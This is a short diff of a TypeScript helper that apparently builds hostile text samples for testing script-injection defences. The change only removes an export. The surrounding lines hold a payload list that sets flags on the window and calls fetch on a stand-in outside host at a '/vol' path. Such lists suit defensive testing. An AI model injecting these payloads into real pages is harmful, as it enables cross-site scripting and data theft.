@@ -11,7 +11,7 @@ function numbers(seed: number): (below: number) => number {
 
 /** What each hostile text tries: to set this on the window, or to fetch this. */
 export const FLAG = 'prise';
-export const ELSEWHERE = 'https://exterieur.example';
+const ELSEWHERE = 'https://exterieur.example';
 
 const RUN = [`window.${FLAG}=1`, `top.${FLAG}=1`, `this[&quot;${FLAG}&quot;]=1`, `fetch('${ELSEWHERE}/vol')`];
 
